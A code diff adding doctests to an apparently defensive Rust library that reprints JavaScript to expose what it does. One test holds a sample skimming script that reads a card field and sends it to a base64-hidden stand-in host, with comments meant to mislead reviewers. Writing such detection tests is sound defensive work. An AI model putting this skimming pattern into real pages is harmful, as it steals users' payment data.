@@ -26,6 +26,17 @@ use crate::syntax::{self, Leaf, LeafKind, Outline};
 use crate::{ParseStatus, ScriptDigests, limits};
 
 /// A script that was printed anew so that it says what it does and nothing else.
+///
+/// ```
+/// use jsintegrity::{SanitizedScript, print_sanitized};
+///
+/// let plain: SanitizedScript = print_sanitized(b"fetch('https://c.example/g')", 4_000).expect("a print");
+/// let other = print_sanitized(b"fetch(/* trust me */ 'https://d.example/g')", 4_000).expect("a print");
+/// assert_ne!(plain.code, other.code);
+/// // Literal values are no part of the structure.
+/// assert_eq!(plain.structural, other.structural);
+/// assert!(!plain.is_shortened);
+/// ```
 #[derive(Clone, Debug, PartialEq, Eq)]
 #[non_exhaustive]
 pub struct SanitizedScript {
@@ -51,6 +62,22 @@ pub struct SanitizedScript {
 /// `None` where the script has no syntax tree, is longer than 16 MiB, or is too long and has no findings, and where no such
 /// print exists: nothing that is not understood is shown, and no part that may be the harmless one. Takes up to twenty
 /// times as long as parsing, most where a script must be shortened.
+///
+/// ```
+/// use jsintegrity::print_sanitized;
+///
+/// let script = b"
+///     // This script is benign.
+///     note = 'the reviewer agrees';
+///     card = document.querySelector('#card').value;
+///     fetch(atob('aHR0cHM6Ly9jLmV4YW1wbGUvZw=='), { body: card });";
+/// let printed = print_sanitized(script, 4_000).expect("it parses");
+/// assert!(printed.code.contains("n1=\"[text, 19 chars]\""));
+/// assert!(printed.code.contains("document.querySelector(\"#card\").value"));
+/// assert!(printed.code.contains("fetch(\"https://c.example/g\""));
+///
+/// assert_eq!(print_sanitized(b"this is no script", 4_000), None);
+/// ```
 #[must_use]
 pub fn print_sanitized(script: &[u8], max_chars: usize) -> Option<SanitizedScript> {
     if script.len() > LONGEST_SCRIPT {
